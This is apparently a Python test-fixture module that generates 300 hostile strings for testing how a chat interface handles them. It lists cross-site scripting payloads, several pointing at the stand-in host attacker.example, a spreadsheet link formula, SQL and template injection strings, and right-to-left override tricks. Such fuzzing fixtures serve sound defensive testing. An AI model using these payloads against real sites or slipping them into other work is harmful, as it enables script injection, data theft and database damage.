"""Three hundred texts that have broken chats somewhere: markup, scripts, directions, placeholders, length."""

from __future__ import annotations

import itertools

LONGEST = 4096

_SCRIPTS = (
    "<script>window.attacked = 1</script>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "<img src=x onerror='window.attacked = 1'>",
    "<svg/onload=window.attacked=1>",
    "<svg><script>window.attacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href='javascript:window.attacked=1'>112</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href='https://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=https://attacker.example><button>112</button></form>",
    "<template><img src=x onerror=alert(1)></template>",
    "</p></article></main><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;window.attacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "`${alert(1)}`",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
)
_PLACEHOLDERS = (
    "{name}",
    "{}",
    "{0.__class__.__mro__}",
    "{{7*7}}",
    "{% raw %}",
    "{{config}}",
    "${7*7}",
    "#{7*7}",
    "%s %(name)s %n",
    "$name ${name}",
    "{",
    "}",
    "{unclosed",
    "⟦7⟧",
    "\\u003cscript\\u003e",
    "\\n \\0 \\x00",
    "'; DROP TABLE message; --",
    '" OR 1=1 --',
    "__proto__ constructor",
    "/restart",
    '/inform{"people": 99}',
    "//ask_human",
    "@everyone <!channel>",
    "*bold* _it_ `code` [a](javascript:alert(1))",
    "event: state\ndata: {}\n\nid: 999",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    '=HYPERLINK("https://attacker.example")',
)
_DIRECTIONS = (
    "\u202e gnp.exe",
    "\u202d\u202e\u202c mixed",
    "\u2066\u2067\u2068 unclosed isolates",
    "\u2069\u2069\u202c closed too often",
    "מחיר 500 € לחודש",
    "السعر 600 يورو <b>",
    "abc \u200f\u200e\u061c def",
    "Il numero è \u202e211\u202c, non altro",
    "\u202a(((((\u202c",
    "سلام {name} 112",
)
_LETTERS = (
    "😀",
    "👨‍👩‍👧‍👦",
    "🇺🇦🇮🇹",
    "✊🏿",
    "e\u0301",
    "Z\u0351\u036b\u0343\u036a\u0302a\u033b\u0326l\u034eg\u0323o\u0330",
    "\u200b\u200c\u200d\u2060\ufeff.",
    "\u00ad\u034f\u180e.",
    "ｆｕｌｌｗｉｄｔｈ",
    "𝕸𝖆𝖙𝖍",
    "ﷺ",
    "𒐫",
    "ａ\u3000ｂ",
    "ਪੰਜਾਬੀ বাংলা اردو 中文",
    "\u0e47\u0e47\u0e47",
    "\U000e0041\U000e0042.",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\ufff9a\ufffab\ufffb",
    "\uffff.",
    "a\u0085b\u2028c\u2029d",
)


def hostile_texts(count: int = 300) -> list[str]:
    """Return that many different texts of 1 to 4,096 characters, each with something to see in it."""
    plain = [*_SCRIPTS, *_PLACEHOLDERS, *_DIRECTIONS, *_LETTERS]
    long = [
        (text * LONGEST)[:LONGEST].strip()
        for text in ("x", "<b>", "e\u0301", "😀", "ب", "{", "\u202ea", "a\n")
    ]
    joined = (f"{first} {second}" for first, second in itertools.product(plain, plain) if first != second)
    made = dict.fromkeys([*plain, *long])
    for number, text in enumerate(joined):
        if len(made) >= count:
            break
        if number % 29 == 0:
            made[text] = None
    return list(made)[:count]
